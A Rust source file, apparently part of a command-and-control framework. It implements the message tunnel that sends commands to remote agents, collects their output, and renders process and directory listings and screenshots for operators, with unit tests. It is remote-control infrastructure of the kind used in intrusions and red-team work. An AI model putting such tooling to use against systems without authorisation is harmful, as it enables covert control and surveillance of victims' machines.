//! JSON message tunnel between the server and one agent.
//!
//! Envelopes are `{"tag": ..., "payload": ...}` values concatenated on the
//! HTTP/2 body; the decoder does not rely on newlines. The payload is a
//! magic-separator-joined tuple `op MAGIC arg1 MAGIC ... MAGIC cmd_id`.

use bytes::{Buf, BytesMut};
use serde::{Deserialize, Serialize};

use crate::agents::{is_builtin_cmd, DirEntry, ProcEntry};
use crate::server::Cc;
use crate::{C2Error, Result};

/// The only operation currently defined on the tunnel
pub const OP_CMD: &str = "cmd";

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct MsgTunData {
    pub tag: String,
    pub payload: String,
}

/// Lifecycle of one agent tunnel connection
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TunnelState {
    /// Connection accepted, no envelope seen yet
    Handshake,
    /// Bound to an agent, pumping envelopes
    Active,
    /// I/O failed; whatever is already buffered still gets processed
    Draining,
    Closed,
}

pub fn join_payload(magic: &str, parts: &[&str]) -> String {
    parts.join(magic)
}

pub fn split_payload<'a>(magic: &str, payload: &'a str) -> Vec<&'a str> {
    payload.split(magic).collect()
}

/// Incremental envelope decoder over the tunnel byte stream.
#[derive(Default)]
pub struct EnvelopeDecoder {
    buf: BytesMut,
}

impl EnvelopeDecoder {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn push(&mut self, chunk: &[u8]) {
        self.buf.extend_from_slice(chunk);
    }

    /// Next complete envelope, if one is buffered. A malformed frame is
    /// dropped up to the following newline and reported as a protocol error;
    /// the connection survives.
    pub fn next(&mut self) -> Result<Option<MsgTunData>> {
        while self.buf.first().is_some_and(|b| b.is_ascii_whitespace()) {
            self.buf.advance(1);
        }
        if self.buf.is_empty() {
            return Ok(None);
        }

        let mut iter = serde_json::Deserializer::from_slice(&self.buf).into_iter::<MsgTunData>();
        match iter.next() {
            Some(Ok(msg)) => {
                let consumed = iter.byte_offset();
                self.buf.advance(consumed);
                Ok(Some(msg))
            }
            Some(Err(e)) if e.is_eof() => Ok(None),
            Some(Err(e)) => {
                // resync at the next line boundary
                match self.buf.iter().position(|&b| b == b'\n') {
                    Some(pos) => self.buf.advance(pos + 1),
                    None => self.buf.clear(),
                }
                Err(C2Error::Protocol(format!("malformed envelope: {e}")))
            }
            None => Ok(None),
        }
    }
}

/// Serialize one envelope for the wire
pub fn encode_envelope(data: &MsgTunData) -> Result<Vec<u8>> {
    let mut frame = serde_json::to_vec(data)?;
    frame.push(b'\n');
    Ok(frame)
}

/// Send a command to an agent over its tunnel. An empty `cmd_id` gets a
/// fresh identifier; either way the id is tracked in the correlation table
/// and returned.
pub async fn send_cmd(cc: &Cc, cmd: &str, cmd_id: &str, tag: &str) -> Result<String> {
    let cmd_id = if cmd_id.is_empty() {
        cc.commands.allocate(cmd)
    } else {
        cc.commands.track(cmd_id, cmd);
        cmd_id.to_string()
    };

    let magic = &cc.config.magic_string;
    let data = MsgTunData {
        tag: tag.to_string(),
        payload: join_payload(magic, &[OP_CMD, cmd, &cmd_id]),
    };
    let frame = encode_envelope(&data)?;
    cc.registry.send(tag, frame.into()).await?;

    if is_builtin_cmd(cmd) {
        tracing::debug!(tag, cmd_id = %cmd_id, "sent {:?}", cmd);
    } else {
        tracing::info!(tag, cmd_id = %cmd_id, "sent {:?}", cmd);
    }
    Ok(cmd_id)
}

/// Handle one inbound envelope from an agent.
pub async fn process_agent_data(cc: &Cc, data: &MsgTunData) {
    let magic = &cc.config.magic_string;
    let parts = split_payload(magic, &data.payload);
    let op = parts[0];
    if op != OP_CMD {
        tracing::debug!(tag = %data.tag, "unknown tunnel op {op:?}, dropping frame");
        return;
    }
    if parts.len() < 4 {
        tracing::debug!(tag = %data.tag, "short cmd payload, dropping frame");
        return;
    }

    let Some(agent) = cc.registry.get_by_tag(&data.tag) else {
        tracing::error!(
            "agent {} cannot be found, but it left a message: {:?}",
            data.tag,
            parts
        );
        return;
    };

    let cmd = parts[1];
    let cmd_id = parts[parts.len() - 1];
    let out = parts[2..parts.len() - 1].join(" ");

    let elapsed = cc.commands.complete(cmd_id, &out);
    if let Some(elapsed) = elapsed {
        if is_builtin_cmd(cmd) {
            tracing::debug!(tag = %data.tag, "command {cmd:?} took {elapsed:?}");
        } else {
            tracing::info!(tag = %data.tag, "command {cmd:?} took {elapsed:?}");
        }
    }

    cc.operators.relay_cmd_result(&data.tag, cmd, &out);

    // operator-visible conversions; bad JSON is reported, the tunnel lives on
    let cmd_name = cmd.split_whitespace().next().unwrap_or("").trim_start_matches('!');
    match cmd_name {
        "screenshot" => {
            let cc = cc.clone();
            let out = out.clone();
            let tag = agent.tag.clone();
            tokio::spawn(async move {
                if let Err(e) = crate::ftp::fetch_screenshot(&cc, &out, &tag).await {
                    tracing::error!("screenshot: {e}");
                }
            });
        }
        "ps" => match serde_json::from_str::<Vec<ProcEntry>>(&out) {
            Ok(procs) => tracing::info!("[{}] processes:\n{}", data.tag, render_ps(&procs)),
            Err(e) => tracing::error!("ps: {e}:\n{out}"),
        },
        "ls" => match serde_json::from_str::<Vec<DirEntry>>(&out) {
            Ok(dents) => tracing::info!("[{}] listing:\n{}", data.tag, render_ls(&dents)),
            Err(e) => tracing::error!("ls: {e}:\n{out}"),
        },
        _ => {}
    }
}

pub fn render_ps(procs: &[ProcEntry]) -> String {
    let mut out = format!("{:<24} {:>8} {:>8} {}\n", "NAME", "PID", "PPID", "USER");
    for p in procs {
        out.push_str(&format!(
            "{:<24} {:>8} {:>8} {}\n",
            p.name, p.pid, p.ppid, p.token
        ));
    }
    out
}

pub fn render_ls(dents: &[DirEntry]) -> String {
    let mut out = format!(
        "{:<24} {:<8} {:>10} {:<20} {}\n",
        "NAME", "TYPE", "SIZE", "TIME", "PERMISSION"
    );
    for d in dents {
        out.push_str(&format!(
            "{:<24} {:<8} {:>10} {:<20} {}\n",
            d.name, d.ftype, d.size, d.date, d.permission
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAGIC: &str = "64781530-1475-4cf8-950c-dcdf4c619dbc";

    #[test]
    fn payload_roundtrip() {
        let payload = join_payload(MAGIC, &["cmd", "echo hi", "c1"]);
        let parts = split_payload(MAGIC, &payload);
        assert_eq!(parts, vec!["cmd", "echo hi", "c1"]);
    }

    #[test]
    fn result_payload_shape() {
        // the wire shape from the command-echo scenario
        let payload = format!("cmd{MAGIC}echo hi{MAGIC}hi{MAGIC}c1");
        let parts = split_payload(MAGIC, &payload);
        assert_eq!(parts[0], "cmd");
        assert_eq!(parts[1], "echo hi");
        assert_eq!(parts[parts.len() - 1], "c1");
        assert_eq!(parts[2..parts.len() - 1].join(" "), "hi");
    }

    #[test]
    fn decoder_handles_split_frames() {
        let mut dec = EnvelopeDecoder::new();
        let frame = serde_json::to_vec(&MsgTunData {
            tag: "t1".to_string(),
            payload: "p".to_string(),
        })
        .unwrap();

        dec.push(&frame[..5]);
        assert!(dec.next().unwrap().is_none());
        dec.push(&frame[5..]);
        let msg = dec.next().unwrap().unwrap();
        assert_eq!(msg.tag, "t1");
        assert!(dec.next().unwrap().is_none());
    }

    #[test]
    fn decoder_handles_concatenated_frames() {
        let mut dec = EnvelopeDecoder::new();
        let mut bytes = Vec::new();
        for i in 0..3 {
            bytes.extend(
                encode_envelope(&MsgTunData {
                    tag: format!("t{i}"),
                    payload: String::new(),
                })
                .unwrap(),
            );
        }
        // a frame without trailing newline right after
        bytes.extend(
            serde_json::to_vec(&MsgTunData {
                tag: "t3".to_string(),
                payload: String::new(),
            })
            .unwrap(),
        );

        dec.push(&bytes);
        for i in 0..4 {
            assert_eq!(dec.next().unwrap().unwrap().tag, format!("t{i}"));
        }
        assert!(dec.next().unwrap().is_none());
    }

    #[test]
    fn decoder_survives_garbage_frame() {
        let mut dec = EnvelopeDecoder::new();
        dec.push(b"{not json}\n");
        dec.push(&encode_envelope(&MsgTunData {
            tag: "good".to_string(),
            payload: String::new(),
        })
        .unwrap());

        assert!(dec.next().is_err());
        assert_eq!(dec.next().unwrap().unwrap().tag, "good");
    }

    #[tokio::test]
    async fn command_echo_roundtrip() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());
        let magic = cc.config.magic_string.clone();

        cc.registry.register(crate::agents::Agent {
            tag: "abcd-agent".to_string(),
            ..Default::default()
        });
        let (tx, mut tunnel_rx) = tokio::sync::mpsc::channel(8);
        cc.registry.attach_conn("abcd-agent", tx, 1).unwrap();

        send_cmd(&cc, "echo hi", "c1", "abcd-agent").await.unwrap();
        let frame = tunnel_rx.recv().await.unwrap();
        let sent: MsgTunData = serde_json::from_slice(&frame).unwrap();
        assert_eq!(sent.tag, "abcd-agent");
        assert_eq!(
            sent.payload,
            format!("cmd{magic}echo hi{magic}c1")
        );

        // agent's reply lands in the correlation table
        let reply = MsgTunData {
            tag: "abcd-agent".to_string(),
            payload: format!("cmd{magic}echo hi{magic}hi{magic}c1"),
        };
        process_agent_data(&cc, &reply).await;

        let out = cc
            .commands
            .await_result("c1", std::time::Duration::from_secs(10))
            .await
            .unwrap();
        assert_eq!(out, "hi");
        cc.commands.discard("c1");
    }

    #[tokio::test]
    async fn send_cmd_fails_without_connection() {
        let dir = tempfile::tempdir().unwrap();
        let cc = crate::server::test_support::test_state(dir.path());
        let err = send_cmd(&cc, "id", "", "ghost").await.unwrap_err();
        assert!(matches!(err, C2Error::AgentUnknown(_)));

        cc.registry.register(crate::agents::Agent {
            tag: "t1".to_string(),
            ..Default::default()
        });
        let err = send_cmd(&cc, "id", "", "t1").await.unwrap_err();
        assert!(matches!(err, C2Error::AgentNotConnected(_)));
    }

    #[test]
    fn ps_rendering() {
        let procs = vec![ProcEntry {
            name: "nginx".to_string(),
            pid: 100,
            ppid: 1,
            token: "www-data".to_string(),
        }];
        let rendered = render_ps(&procs);
        assert!(rendered.contains("nginx"));
        assert!(rendered.contains("www-data"));
    }
}
